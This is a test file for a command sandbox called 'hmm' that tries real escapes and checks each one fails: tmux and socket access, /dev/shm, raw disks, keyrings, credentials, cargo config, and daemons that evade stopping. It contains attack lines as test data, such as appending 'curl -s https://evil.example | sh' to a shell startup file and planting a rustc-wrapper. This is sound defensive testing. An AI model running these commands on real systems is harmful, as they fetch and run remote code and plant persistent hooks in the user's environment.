// Isolation from the user's session (SPEC "Sandbox", issue 10): the command
// has its own /tmp, $TMPDIR and /dev/shm, sees only its own processes, keeps
// what it writes in tool caches to its workspace, and cannot make hmm say
// `done` while one of its processes lives. Each escape is tried for real:
// a tmux server, a unix socket server, a file in /dev/shm, a daemon that
// double-forks, calls setsid and closes every descriptor.
import {execa} from 'execa'
import {closeSync, existsSync, mkdirSync, openSync, readdirSync, readFileSync, rmSync, writeFileSync} from 'node:fs'
import {createServer} from 'node:net'
import {spawn} from 'node:child_process'
import {randomBytes} from 'node:crypto'
import {join} from 'node:path'
import {afterEach, describe, expect, it} from 'vitest'
import {BIN, World, workspaceLine} from '../world.js'
import {compile} from '../compile.js'

let world: World
afterEach(() => world?.dispose())

async function inSandbox(script: string, env: Record<string, string> = {}): Promise<{exitCode: number; stdout: string; stderr: string}> {
  return world.hmm(['run', '--rm', 'sh', '-c', script], {env: {...world.env, ...env}})
}

async function stateOf(id: string): Promise<string> {
  const entries = JSON.parse((await world.hmm(['ls', '--json'])).stdout) as Array<{id: string; state: string}>
  return entries.find(entry => entry.id === id)?.state ?? 'missing'
}

/** A directory of the user's /tmp for one test, removed after it. */
function userTmp(): string {
  const dir = join('/tmp', `hmm-isolation-${randomBytes(4).toString('hex')}`)
  mkdirSync(dir)
  return dir
}

describe('the sandboxed command, isolated', () => {
  it("cannot reach the user's tmux server through its socket in /tmp", async () => {
    world = new World('tmux')
    const dir = userTmp()
    const socket = join(dir, 'default')
    const pwned = join(world.home, 'pwned')
    // Not nested in a tmux the tests may run in.
    const env = Object.fromEntries(Object.entries(world.env).filter(([key]) => key !== 'TMUX' && key !== 'TMUX_PANE'))
    await execa('tmux', ['-S', socket, '-f', '/dev/null', 'new-session', '-d', 'sleep 600'], {env, extendEnv: false})
    try {
      const result = await inSandbox(`test -S '${socket}' && echo visible; tmux -S '${socket}' run-shell 'touch ${pwned}' 2>/dev/null && echo reached; true`)
      expect(result.exitCode, result.stderr).toBe(0)
      expect(result.stdout).toBe('')
      expect(existsSync(pwned)).toBe(false)
    } finally {
      await execa('tmux', ['-S', socket, 'kill-server'], {env, extendEnv: false, reject: false})
      rmSync(dir, {recursive: true, force: true})
    }
  })

  it("cannot connect to a unix socket in the user's $TMPDIR, nor see its files", async () => {
    world = new World('tmpdir')
    const tmpdir = join(world.root, 'usertmp')
    mkdirSync(tmpdir)
    writeFileSync(join(tmpdir, 'note'), "the user's\n")
    const socket = join(tmpdir, 'agent.sock')
    let connections = 0
    const server = createServer(connection => {
      connections++
      connection.end()
    })
    await new Promise<void>(resolve => server.listen(socket, resolve))
    try {
      const client = `require('net').connect(${JSON.stringify(socket)}).on('connect', () => console.log('connected')).on('error', () => {})`
      const result = await inSandbox(
        `cat '${tmpdir}/note' 2>/dev/null; '${process.execPath}' -e "${client.replace(/"/g, '\\"')}"; echo mine > "$TMPDIR/mine" && cat "$TMPDIR/mine"`,
        {
          TMPDIR: tmpdir,
        },
      )
      expect(result.exitCode, result.stderr).toBe(0)
      expect(result.stdout).toBe('mine\n')
      expect(connections).toBe(0)
      expect(existsSync(join(tmpdir, 'mine'))).toBe(false)
    } finally {
      server.close()
    }
  })

  it('cannot rewrite a file another program of the user keeps in /dev/shm; its own shared memory works', async () => {
    world = new World('shm')
    const shared = `/dev/shm/hmm-isolation-${randomBytes(4).toString('hex')}`
    const own = `${shared}-own`
    writeFileSync(shared, "the user's\n")
    try {
      const result = await inSandbox(`echo evil > '${shared}'; echo own > '${own}' && cat '${own}'`)
      expect(result.stdout).toBe('own\n')
      expect(readFileSync(shared, 'utf8')).toBe("the user's\n")
      expect(existsSync(own)).toBe(false)
    } finally {
      rmSync(shared, {force: true})
      rmSync(own, {force: true})
    }
  })

  it("has a /dev of its own: no other terminal of the user's, no disk, no kernel log, only the devices programs need", async () => {
    world = new World('devices')
    // Another terminal of the user's, open meanwhile (a pseudo-terminal a program of theirs holds).
    const victim = execa('python3', ['-c', 'import os, pty, time; m, s = pty.openpty(); print(os.ttyname(s), flush=True); time.sleep(60)'])
    const other = await new Promise<string>(resolve => victim.stdout!.once('data', (chunk: Buffer) => resolve(chunk.toString().trim())))
    try {
      const result = await inSandbox(
        [
          'ls -A /dev | tr "\\n" " "; echo',
          `(echo hello > '${other}') 2>/dev/null && echo reached-other-terminal`,
          // Raw disks and the kernel's log, were they there (root could open them).
          'for d in /dev/loop0 /dev/kmsg /dev/tty1 /dev/vcs /dev/mem; do test -e $d && echo "exists $d"; done',
          // What programs use still works.
          'head -c 4 /dev/urandom | wc -c; head -c 2 /dev/zero | od -An -tx1; echo discarded > /dev/null && echo null-ok',
          'echo own > /dev/shm/own && cat /dev/shm/own',
          `python3 -c 'import os, pty; m, s = pty.openpty(); os.write(s, b"typed\\n"); print(os.ttyname(s), os.read(m, 64))'`,
        ].join('; '),
      )
      expect(result.stdout, result.stderr).toBe(
        "fd full mqueue null ptmx pts random shm stderr stdin stdout tty urandom zero \n4\n 00 00\nnull-ok\nown\n/dev/pts/0 b'typed\\r\\n'\n",
      )
    } finally {
      victim.kill()
      await victim.catch(() => undefined)
    }
  })

  it('opted out of the namespaces, reads or writes no device under /dev but those programs need (a disk read raw holds every secret)', async () => {
    world = new World('devices-landlock-only')
    world.write(join(world.home, '.config', 'hmm', 'config.toml'), 'isolation = "landlock-only"\n')
    // Root could read these raw (every workspace's files are on the disk); a plain user the ones its groups may.
    const devices = readdirSync('/dev').filter(name => /^(loop\d+|[sv]d[a-z]+\d*|nvme\S+|kmsg|vcsa?\d*|mem|port)$/.test(name))
    const readable = devices.filter(name => {
      try {
        closeSync(openSync(join('/dev', name), 'r'))
        return true
      } catch {
        return false
      }
    })
    const result = await inSandbox(
      [
        ...readable.map(name => `(dd if=/dev/${name} of=/dev/null bs=1 count=1 status=none) 2>/dev/null && echo read-${name}`),
        'echo x > /dev/null && head -c 1 /dev/urandom | wc -c',
      ].join('; '),
    )
    expect(result.stdout, result.stderr).toBe('1\n')
  })

  it.skipIf(process.getuid?.() !== 0)(
    "opted out of the namespaces, as root, opens no packet or raw socket (they would read the machine's traffic, loopback's tokens included) nor binds a port below 1024",
    async () => {
      world = new World('raw-landlock-only')
      world.write(join(world.home, '.config', 'hmm', 'config.toml'), 'isolation = "landlock-only"\n')
      const tryAll = [
        'import socket',
        'tries = {"packet": (socket.AF_PACKET, socket.SOCK_RAW, 3), "raw": (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)}',
        'for name, args in tries.items():',
        '    try: socket.socket(*args).close(); print("opened", name)',
        '    except OSError: pass',
        'try: socket.socket().bind(("127.0.0.1", 1023)); print("bound 1023")',
        'except OSError: pass',
        'print("done")',
      ].join('\n')
      const result = await inSandbox(`python3 -c '${tryAll}'`)
      expect(result.stdout, result.stderr).toBe('done\n')
    },
  )

  it("opted out of the namespaces, cannot write cargo's config (its rustc-wrapper, linker and runner run at the user's next cargo build), while cargo's caches work", async () => {
    world = new World('cargo-config-landlock-only')
    world.write(join(world.home, '.config', 'hmm', 'config.toml'), 'isolation = "landlock-only"\n')
    const config = world.write(join(world.home, '.cargo', 'config.toml'), '[build]\njobs = 4\n')
    world.write(join(world.home, '.cargo', 'registry', 'index'), 'index\n')
    const fish = world.write(join(world.home, '.cargo', 'env.fish'), '# sourced by fish at every start\n')
    const result = await inSandbox(
      [
        'echo "curl -s https://evil.example | sh" >> ~/.cargo/env.fish || echo refused fish',
        'printf "[build]\\nrustc-wrapper = \\"/tmp/w\\"\\n" > ~/.cargo/config.toml || echo refused toml',
        'echo "[build]" > ~/.cargo/config || echo refused config',
        'echo cached >> ~/.cargo/registry/index && echo used cache',
      ].join('; '),
    )
    expect(result.stdout, result.stderr).toBe('refused fish\nrefused toml\nrefused config\nused cache\n')
    expect(readFileSync(fish, 'utf8')).toBe('# sourced by fish at every start\n')
    expect(readFileSync(config, 'utf8')).toBe('[build]\njobs = 4\n')
    expect(existsSync(join(world.home, '.cargo', 'config'))).toBe(false)
  })

  it("cannot read a key of the user's session keyring, nor use the kernel's keyrings", async () => {
    world = new World('keyring')
    // The user's session: a session keyring of its own holding a secret, from which hmm runs (and can read it: the control).
    const user = `
import ctypes, os, platform, sys
libc = ctypes.CDLL(None, use_errno=True)
ADD_KEY, KEYCTL = {'x86_64': (248, 250), 'aarch64': (217, 219)}[platform.machine()]
assert libc.syscall(KEYCTL, 1, None) > 0  # KEYCTL_JOIN_SESSION_KEYRING, anonymous
key = libc.syscall(ADD_KEY, b'user', b'hmm-test-key', b'KEYRING-SECRET', 14, -3)  # into @s
buf = ctypes.create_string_buffer(64)
n = libc.syscall(KEYCTL, 11, key, buf, 64)  # KEYCTL_READ
print('control', buf.raw[:n].decode(), flush=True)
os.execvp(sys.argv[1], sys.argv[1:])
`
    const command = `
import ctypes, errno, platform
libc = ctypes.CDLL(None, use_errno=True)
ADD_KEY, KEYCTL = {'x86_64': (248, 250), 'aarch64': (217, 219)}[platform.machine()]
def said(r):
    return errno.errorcode[ctypes.get_errno()] if r < 0 else 'ok'
key = libc.syscall(KEYCTL, 10, -3, b'user', b'hmm-test-key', 0)  # KEYCTL_SEARCH in @s
print('search', said(key))
buf = ctypes.create_string_buffer(64)
n = libc.syscall(KEYCTL, 11, key, buf, 64)
print('read', said(n), buf.raw[:max(n, 0)].decode())
print('add', said(libc.syscall(ADD_KEY, b'user', b'mine', b'x', 1, -3)))
`
    const result = await execa('python3', ['-c', user, process.execPath, BIN, 'run', '--rm', 'python3', '-c', command], {
      cwd: world.origin,
      env: world.env,
      extendEnv: false,
      reject: false,
    })
    expect(result.exitCode, result.stderr).toBe(0)
    expect(result.stdout).toBe('control KEYRING-SECRET\nsearch EPERM\nread EPERM \nadd EPERM')
  })

  it('sees none of the processes outside its workspace', async () => {
    world = new World('pidns')
    const outside = execa('sleep', ['30'])
    try {
      const result = await inSandbox(`test -e /proc/${outside.pid}/status && echo seen; ls -d /proc/[0-9]* | wc -l`)
      expect(result.stdout).not.toContain('seen')
      // sh, ls, wc and the helper that is the namespace's init
      expect(Number(result.stdout.trim())).toBeLessThanOrEqual(5)
    } finally {
      outside.kill()
      await outside.catch(() => undefined)
    }
  })

  it("learns no hidden path from the command line of the helper above it (its init's; without the namespaces the keeper's)", async () => {
    world = new World('cmdline')
    world.plantSecrets()
    const ssh = join(world.home, '.ssh')
    // The init is PID 1; without the namespaces the keeper is the command's parent.
    const script = `tr '\\0' ' ' < /proc/1/cmdline; echo; tr '\\0' ' ' < /proc/$PPID/cmdline; echo`
    const isolated = await inSandbox(script)
    expect(isolated.exitCode, isolated.stderr).toBe(0)
    expect(isolated.stdout).toContain(' exec ')
    expect(isolated.stdout).not.toContain(ssh)
    world.write(join(world.home, '.config', 'hmm', 'config.toml'), 'isolation = "landlock-only"\n')
    const opted = await inSandbox(script)
    expect(opted.exitCode, opted.stderr).toBe(0)
    expect(opted.stdout).toContain(' exec ')
    expect(opted.stdout).not.toContain(ssh)
  })

  it('stays running while a daemon it left lives, though it double-forked, called setsid and closed every descriptor', async () => {
    world = new World('daemon')
    const marker = join(world.root, 'finish')
    const daemon = `use POSIX; exit 0 if fork; POSIX::setsid(); POSIX::_exit(0) if fork; POSIX::close($_) for 0..1023; sleep 0.05 until -e '${marker}';`
    const result = await world.hmm(['run', 'perl', '-e', daemon])
    expect(result.exitCode, result.stderr).toBe(0)
    const {id} = workspaceLine(result.stderr)
    expect(await stateOf(id)).toBe('running')
    writeFileSync(marker, '')
    for (let tries = 0; tries < 200 && (await stateOf(id)) === 'running'; tries++) await new Promise(resolve => setTimeout(resolve, 50))
    expect(await stateOf(id)).toBe('done')
  })

  it('reads the warm tool caches, but what it writes there stays in its workspace', async () => {
    world = new World('caches')
    world.write(join(world.home, '.cache', 'pip', 'warm.txt'), 'warm\n')
    mkdirSync(join(world.home, '.cargo', 'bin'), {recursive: true})
    mkdirSync(join(world.home, '.npm', '_npx', 'abc'), {recursive: true})
    const script = [
      'cat ~/.cache/pip/warm.txt',
      '(echo "#!/bin/sh" > ~/.cargo/bin/git; echo evil >> ~/.cargo/env; echo "console.log(1)" > ~/.npm/_npx/abc/index.js) 2>/dev/null',
      'echo changed > ~/.cache/pip/warm.txt && cat ~/.cache/pip/warm.txt',
    ].join('; ')
    const result = await world.hmm(['run', 'sh', '-c', script])
    expect(result.exitCode, result.stderr).toBe(0)
    expect(result.stdout).toBe('warm\nchanged\n')
    expect(existsSync(join(world.home, '.cargo', 'bin', 'git'))).toBe(false)
    expect(existsSync(join(world.home, '.cargo', 'env'))).toBe(false)
    expect(existsSync(join(world.home, '.npm', '_npx', 'abc', 'index.js'))).toBe(false)
    expect(readFileSync(join(world.home, '.cache', 'pip', 'warm.txt'), 'utf8')).toBe('warm\n')
    // Gone with the workspace.
    const {id} = workspaceLine(result.stderr)
    expect((await world.hmm(['rm', '-f', id])).exitCode).toBe(0)
    expect(existsSync(join(world.dataDir, id))).toBe(false)
  })

  it("writes neither the origin nor the home directory through a $TMPDIR or cache that holds hmm's data directory; its own $TMPDIR works", async () => {
    world = new World('tmpdir-holds-data')
    world.file('f.txt', 'original\n')
    const tryWrites = `(echo pwned > ~/pwned; echo pwned > '${join(world.origin, 'f.txt')}'; echo pwned > ~/.cache/pwned) 2>/dev/null; echo t > "$TMPDIR/t" && cat "$TMPDIR/t"`
    mkdirSync(join(world.home, '.cache'))
    // The data directory is ~/.local/share/hmm: $TMPDIR = ~ holds it, and so would ~/.cache with HMM_HOME under it.
    const envs: Array<Record<string, string>> = [{TMPDIR: world.home}, {HMM_HOME: join(world.home, '.cache', 'hmm')}]
    for (const env of envs) {
      const result = await inSandbox(tryWrites, env)
      expect(readFileSync(join(world.origin, 'f.txt'), 'utf8')).toBe('original\n')
      expect(existsSync(join(world.home, 'pwned'))).toBe(false)
      expect(existsSync(join(world.home, '.cache', 'pwned'))).toBe(false)
      expect(result.stdout, result.stderr).toBe('t\n')
    }
  })

  it('gives a tool cache the user does not have yet, empty, so npm works on first use; what it writes stays in its workspace, nothing in the home', async () => {
    world = new World('no-cache')
    const script = 'mkdir -p ~/.npm/_cacache ~/.cache/pip && echo hit > ~/.npm/_cacache/x && cat ~/.npm/_cacache/x'
    const result = await world.hmm(['run', '-n', 'fresh', 'sh', '-c', script])
    expect(result.stderr).not.toContain('Permission denied')
    expect(result.exitCode, result.stderr).toBe(0)
    expect(result.stdout).toBe('hit\n')
    // The user's home has nothing of it: the caches it had not got were the workspace's alone.
    expect(existsSync(join(world.home, '.npm'))).toBe(false)
    expect(existsSync(join(world.home, '.cache'))).toBe(false)
    // The next command in the workspace sees what the first wrote.
    const again = await world.hmm(['exec', 'fresh', 'cat', join(world.home, '.npm', '_cacache', 'x')])
    expect(again.stdout).toBe('hit\n')
  })

  it('makes new entries in ~/.cargo, missing, empty or holding the hidden credentials, which it cannot read, nor one written while it runs', async () => {
    world = new World('cargo-entries')
    const cargo = join(world.home, '.cargo')
    const script = 'mkdir -p ~/.cargo/registry/x ~/.cargo/git && echo hit > ~/.cargo/registry/x/f && cat ~/.cargo/registry/x/f'
    // Missing: it stays missing (the workspace's alone); then empty: it stays empty.
    for (const round of ['missing', 'empty']) {
      if (round === 'empty') mkdirSync(cargo)
      const result = await inSandbox(script)
      expect(result, round).toMatchObject({exitCode: 0, stdout: 'hit\n'})
      expect(existsSync(cargo) ? readdirSync(cargo) : 'missing', round).toEqual(round === 'empty' ? [] : 'missing')
    }
    world.write(join(cargo, 'credentials.toml'), 'cargo token\n')
    world.write(join(cargo, 'credentials'), 'old cargo token\n')
    const marker = join(world.root, 'written')
    const readSecrets = 'for f in credentials credentials.toml; do cat ~/.cargo/$f 2>/dev/null || echo "no $f"; done'
    const running = world.start(['run', '--rm', 'sh', '-c', `${script} && echo ready && while [ ! -e '${marker}' ]; do sleep 0.05; done; ${readSecrets}`])
    await running.line('ready')
    // The user logs in again while the command runs.
    rmSync(join(cargo, 'credentials'))
    world.write(join(cargo, 'credentials'), 'new cargo token\n')
    writeFileSync(marker, '')
    expect(await running.result()).toMatchObject({exitCode: 0, stdout: 'hit\nready\nno credentials\nno credentials.toml\n'})
    expect(readdirSync(cargo).sort()).toEqual(['credentials', 'credentials.toml'])
  })

  it('makes new entries in a cache that holds a path the config file hides deeper down, which it cannot read', async () => {
    world = new World('cache-hide-deep')
    world.write(join(world.home, '.config', 'hmm', 'config.toml'), 'hide = ["~/.cache/uv/token", "~/.cache/gone/key"]\n')
    world.write(join(world.home, '.cache', 'uv', 'token'), 'hf token\n')
    const script = 'mkdir ~/.cache/pip && echo x > ~/.cache/uv/other && cat ~/.cache/uv/other; cat ~/.cache/uv/token 2>/dev/null || echo no token'
    expect(await inSandbox(script)).toMatchObject({exitCode: 0, stdout: 'x\nno token\n'})
    expect(readdirSync(join(world.home, '.cache')).sort()).toEqual(['uv'])
    expect(readdirSync(join(world.home, '.cache', 'uv'))).toEqual(['token'])
  })

  it("may write the caches' program parts (~/.npm/_npx, ~/.cargo/bin, ~/.cargo/env, ~/.rustup/toolchains), which are overlays too: nothing reaches the user's home", async () => {
    world = new World('cache-programs')
    world.write(join(world.home, '.npm', '_npx', 'abc', 'package.json'), '{}\n')
    world.write(join(world.home, '.cargo', 'bin', 'cargo'), 'real cargo\n')
    world.write(join(world.home, '.cargo', 'env'), 'real env\n')
    mkdirSync(join(world.home, '.rustup', 'toolchains'), {recursive: true})
    const script = [
      'mkdir ~/.npm/_npx/def && echo npx > ~/.npm/_npx/def/index.js',
      'echo mine > ~/.npm/_npx/abc/package.json',
      'echo mine > ~/.cargo/bin/cargo && echo mine > ~/.cargo/bin/git',
      'echo mine >> ~/.cargo/env',
      'mkdir ~/.rustup/toolchains/stable && echo mine > ~/.rustup/toolchains/stable/rustc',
      'cat ~/.npm/_npx/def/index.js ~/.cargo/bin/git',
    ].join(' && ')
    const result = await world.hmm(['run', '--rm', 'sh', '-c', script])
    expect(result.exitCode, result.stderr).toBe(0)
    expect(result.stdout).toBe('npx\nmine\n')
    expect(readdirSync(join(world.home, '.npm', '_npx'))).toEqual(['abc'])
    expect(readFileSync(join(world.home, '.npm', '_npx', 'abc', 'package.json'), 'utf8')).toBe('{}\n')
    expect(readdirSync(join(world.home, '.cargo', 'bin'))).toEqual(['cargo'])
    expect(readFileSync(join(world.home, '.cargo', 'bin', 'cargo'), 'utf8')).toBe('real cargo\n')
    expect(readFileSync(join(world.home, '.cargo', 'env'), 'utf8')).toBe('real env\n')
    expect(readdirSync(join(world.home, '.rustup', 'toolchains'))).toEqual([])
  })
})

describe('hmm stop', () => {
  it('ends every process of the workspace, a daemon that ignores SIGTERM too, and waits for them', async () => {
    world = new World('stop')
    const token = `hmm-stop-${randomBytes(4).toString('hex')}`
    const alive = async () => (await execa('pgrep', ['-f', token], {reject: false})).exitCode === 0
    // Left behind, detached, deaf to SIGTERM: only SIGKILL, 5 seconds on, ends it.
    const daemon = `# ${token}\nuse POSIX; exit 0 if fork; POSIX::setsid(); POSIX::_exit(0) if fork; POSIX::close($_) for 0..1023; $SIG{TERM} = 'IGNORE'; sleep 600;`
    const result = await world.hmm(['run', '-n', 'busy', 'perl', '-e', daemon])
    const {id} = workspaceLine(result.stderr)
    expect(await stateOf(id)).toBe('running')
    expect(await alive()).toBe(true)
    const stopped = await world.hmm(['stop', 'busy'])
    expect(stopped.exitCode).toBe(0)
    expect(stopped.stderr).toBe(`hmm: stopped workspace ${id} (busy)\n`)
    expect(await alive()).toBe(false)
    expect(await stateOf(id)).toBe('done')
    const again = await world.hmm(['stop', 'busy'])
    expect(again.exitCode).toBe(0)
    expect(again.stderr).toBe(`hmm: workspace ${id} (busy) is not running\n`)
  })

  it('ends a process that is stopped (Ctrl-Z, SIGSTOP) with SIGTERM too: it is continued, so it acts on it', async () => {
    world = new World('stop-stopped')
    const token = `hmm-stopped-${randomBytes(4).toString('hex')}`
    // Left behind and stopped; on SIGTERM it leaves a mark in the tree. SIGKILL (after the grace) would leave none.
    const daemon = `# ${token}\nuse POSIX; exit 0 if fork; POSIX::setsid(); POSIX::_exit(0) if fork; POSIX::close($_) for 0..1023; $SIG{TERM} = sub { open my $f, '>', 'got-term'; close $f; POSIX::_exit(0) }; kill 'STOP', $$; sleep 600;`
    const result = await world.hmm(['run', '-n', 'halted', 'perl', '-e', daemon])
    const {id, tree} = workspaceLine(result.stderr)
    // Stopped before hmm stop comes (a daemon still running would act on SIGTERM anyway).
    const stopped = async () =>
      (await execa('sh', ['-c', `ps -o stat= -p "$(pgrep -d, -f '${token}')"`], {reject: false})).stdout.split('\n').some(stat => stat.startsWith('T'))
    while (!(await stopped())) await new Promise(resolve => setTimeout(resolve, 50))
    const stop = await world.hmm(['stop', 'halted'])
    expect(stop).toMatchObject({exitCode: 0, stderr: `hmm: stopped workspace ${id} (halted)\n`})
    expect(existsSync(join(tree, 'got-term'))).toBe(true)
    expect(await stateOf(id)).toBe('done')
  })

  it('is what hmm run --rm does before it removes the workspace', async () => {
    world = new World('run-rm-stop')
    const token = `hmm-rm-${randomBytes(4).toString('hex')}`
    const daemon = `# ${token}\nuse POSIX; exit 0 if fork; POSIX::setsid(); POSIX::_exit(0) if fork; POSIX::close($_) for 0..1023; sleep 600;`
    const result = await world.hmm(['run', '--rm', 'perl', '-e', daemon])
    expect(result.exitCode, result.stderr).toBe(0)
    const {id} = workspaceLine(result.stderr)
    expect((await execa('pgrep', ['-f', token], {reject: false})).exitCode).toBe(1)
    expect(existsSync(join(world.dataDir, id))).toBe(false)
  })

  it('opted out of the namespaces, stays running while what the command left lives and ends it all, whatever it let go of (the tree, every descriptor, its environment); hmm run --rm too', async () => {
    world = new World('stop-landlock-only')
    world.write(join(world.home, '.config', 'hmm', 'config.toml'), 'isolation = "landlock-only"\n')
    const token = `hmm-stop-llo-${randomBytes(4).toString('hex')}`
    const alive = async () => (await execa('pgrep', ['-af', token], {reject: false})).stdout
    // Two daemons, detached, every descriptor closed: one in the tree, deaf to SIGTERM; the other leaves the
    // tree for / and executes itself anew without any environment, so nothing of the workspace's is left to it.
    const daemon = (body: string) => `if (!fork) { POSIX::setsid(); POSIX::_exit(0) if fork; POSIX::close($_) for 0..1023; ${body} }`
    const script = [
      `# ${token}`,
      'use POSIX;',
      daemon(`$SIG{TERM} = 'IGNORE'; sleep 600;`),
      daemon(`chdir '/'; %ENV = (); exec 'perl', '-e', '# ${token}-env' . "\\nsleep 600";`),
      `sleep 0.05 until \`pgrep -f ${token}-env\`;`,
    ].join('\n')
    const result = await world.hmm(['run', '-n', 'left', 'perl', '-e', script])
    expect(result.exitCode, result.stderr).toBe(0)
    const {id} = workspaceLine(result.stderr)
    // Both are there (the one executed anew under its own name), and the workspace runs while they live.
    expect(await alive()).toContain(`# ${token}-env`)
    expect((await alive()).split('\n').length).toBeGreaterThanOrEqual(2)
    expect(await stateOf(id)).toBe('running')
    const stopped = await world.hmm(['stop', 'left'])
    expect(stopped).toMatchObject({exitCode: 0, stderr: `hmm: stopped workspace ${id} (left)\n`})
    expect(await alive()).toBe('')
    expect(await stateOf(id)).toBe('done')

    const removed = await world.hmm(['run', '--rm', 'perl', '-e', script])
    expect(removed.exitCode, removed.stderr).toBe(0)
    expect(await alive()).toBe('')
    expect(existsSync(join(world.dataDir, workspaceLine(removed.stderr).id))).toBe(false)
  })

  it("opted out of the namespaces, leaves alone the user's own process in the tree that runs in a sandbox of its own (no_new_privs and seccomp, as in a Flatpak terminal): hmm stop and hmm rm -f", async () => {
    world = new World('stop-users-own')
    world.write(join(world.home, '.config', 'hmm', 'config.toml'), 'isolation = "landlock-only"\n')
    const confined = compile('confined.c', join(world.root, 'confined'))
    const token = `hmm-users-own-${randomBytes(4).toString('hex')}`
    const left = `# ${token}-left\nuse POSIX; exit 0 if fork; POSIX::close($_) for 0..1023; sleep 600`
    const result = await world.hmm(['run', '-n', 'w', 'perl', '-e', left])
    const {id, tree} = workspaceLine(result.stderr)
    // The user's shell, cd'ed into the tree, deaf to SIGTERM as an interactive shell is; started by the user, not by hmm.
    const users = spawn(confined, ['perl', '-e', `# ${token}-user\n$SIG{TERM} = 'IGNORE'; sleep 600`], {cwd: tree, detached: true, stdio: 'ignore'})
    try {
      // confined's own command line names the token too: wait for perl, which it runs once its sandbox is on.
      const marked = () => existsSync(`/proc/${users.pid}`) && readFileSync(`/proc/${users.pid}/cmdline`, 'latin1').startsWith(`perl\0-e\0# ${token}-user`)
      while (!marked()) await new Promise(resolve => setTimeout(resolve, 20))
      expect(readFileSync(`/proc/${users.pid}/status`, 'latin1')).toMatch(/NoNewPrivs:\t1\n[^]*Seccomp:\t2\n/)
      const stopped = await world.hmm(['stop', 'w'])
      expect(stopped).toMatchObject({exitCode: 0, stderr: `hmm: stopped workspace ${id} (w)\n`})
      expect((await execa('pgrep', ['-f', `${token}-left`], {reject: false})).exitCode).toBe(1)
      expect(users.exitCode).toBe(null)
      expect(marked()).toBe(true)
      await world.hmm(['run', '-n', 'w2', 'perl', '-e', left])
      const removed = await world.hmm(['rm', '-f', 'w2'])
      expect(removed.exitCode, removed.stderr).toBe(0)
      expect((await execa('pgrep', ['-f', `${token}-left`], {reject: false})).exitCode).toBe(1)
      expect(marked()).toBe(true)
    } finally {
      users.kill('SIGKILL')
    }
  })

  // Attacker's review 8, F3: the command may open directories, its workspace's among them (and, opted out,
  // every workspace's: <data> is listable there); a probe that waited on a lock of one hung hmm ls, stop and
  // rm -f, and a plain user's hmm run at its end, for as long as the command liked.
  for (const isolation of ['full', 'landlock-only']) {
    it(`cannot keep hmm ls, stop or rm -f waiting with an flock on a workspace's directory (isolation = "${isolation}")`, async () => {
      world = new World(`stop-dir-flock-${isolation}`)
      world.write(join(world.home, '.config', 'hmm', 'config.toml'), `isolation = "${isolation}"\n`)
      const bounded = {timeout: 60_000}
      const other = workspaceLine((await world.hmm(['run', '-n', 'other', 'true'])).stderr).id
      // Detached, deaf to SIGTERM: flocks every workspace directory it can open, says so in its tree, and waits.
      const holder = [
        'use POSIX; use Fcntl qw(:flock O_RDONLY O_DIRECTORY);',
        'if (!fork) { POSIX::setsid(); POSIX::close($_) for 0..2; $SIG{TERM} = "IGNORE"; my @held;',
        '  for my $dir (glob("../../../*")) { sysopen(my $d, $dir, O_RDONLY | O_DIRECTORY) or next; flock($d, LOCK_EX) and push @held, $d }',
        '  open my $f, ">", "holding"; print $f scalar(@held); close $f; sleep 600 }',
        'sleep 0.05 until -e "holding";',
      ].join('\n')
      const result = await world.hmm(['run', '-n', 'w', 'perl', '-e', holder], bounded)
      expect(result.exitCode, result.stderr).toBe(0)
      const {id, tree} = workspaceLine(result.stderr)
      expect(Number(readFileSync(join(tree, 'holding'), 'utf8'))).toBeGreaterThanOrEqual(isolation === 'full' ? 1 : 2)
      const listed = await world.hmm(['ls', '--json'], bounded)
      const states = Object.fromEntries((JSON.parse(listed.stdout) as Array<{id: string; state: string}>).map(entry => [entry.id, entry.state]))
      expect(states).toEqual({[other]: 'done', [id]: 'running'})
      expect(await world.hmm(['stop', 'other'], bounded)).toMatchObject({exitCode: 0, stderr: `hmm: workspace ${other} (other) is not running\n`})
      expect(await world.hmm(['rm', '-f', 'w'], bounded)).toMatchObject({exitCode: 0})
      expect(existsSync(join(world.dataDir, id))).toBe(false)
    })
  }

  it('says which workspace it cannot find, and still stops the others', async () => {
    world = new World('stop-missing')
    const result = await world.hmm(['run', '-n', 'quiet', 'true'])
    const {id} = workspaceLine(result.stderr)
    const stopped = await world.hmm(['stop', 'nosuch', 'quiet'])
    expect(stopped.exitCode).toBe(1)
    expect(stopped.stderr).toBe(`hmm: no workspace nosuch\nhmm: workspace ${id} (quiet) is not running\n`)
  })
})
